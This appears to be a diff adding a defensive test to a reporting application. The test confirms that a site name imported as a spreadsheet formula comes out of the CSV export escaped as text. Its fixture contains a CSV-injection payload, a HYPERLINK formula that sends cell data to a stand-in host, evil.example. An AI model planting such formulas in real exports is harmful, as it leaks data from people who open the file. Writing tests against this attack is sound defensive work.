@@ -26,6 +26,7 @@ from hub.settings import HubSettings
 from hub.storage.engine import Database
 from hub.storage.scope import SYSTEM, Scope
 from schemas.codes import Role
+from schemas.imports import ImportKind
 from schemas.reports import MonthlyReport, MonthlyReportQuery
 from support.reports import (
     ANSWER,
@@ -39,6 +40,7 @@ from support.reports import (
     SITE_CALLS,
     TECHNICAL_FAILURES,
     load_worked_example,
+    run_import,
 )
 from support.world import NOW, World, sign_in
 
@@ -284,3 +286,29 @@ async def test_hub_staff_can_open_any_area_and_a_pdf(
 
 def test_money_is_exact() -> None:
     assert Decimal(MONEY_TOTAL) == sum(Decimal(v) for v in MONEY.values())
+
+
+async def test_a_formula_in_an_imported_name_is_text_in_the_csv(
+    db: Database, world: World, tmp_path: Path
+) -> None:
+    """A site imported as =HYPERLINK(...) reaches the CSV as text, never as a formula."""
+    await load_worked_example(db)
+    sites = tmp_path / "sites.csv"
+    name = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
+    sites.write_text(
+        "site_ods,name,site_kind,beds,commissioner_ods,go_live\n"
+        f'VEVL1,"{name.replace(chr(34), chr(34) * 2)}",care_home_residential,10,QAA,2026-06-01\n'
+    )
+    summary = await run_import(db, ImportKind.SITES, sites)
+    assert summary.written, summary.errors
+    report = await _report(db, commissioner="QAA")
+    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
+    names = {
+        r["site_ods"]: r["value"] for r in rows if r["section"] == "sites" and r["item"] == "name"
+    }
+    assert names["VEVL1"] == "'" + name
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    cells = [v for r in rows for v in r.values()]
+    assert not [
+        v for v in cells if v.startswith(starts) and not v.lstrip("-").replace(".", "").isdigit()
+    ]
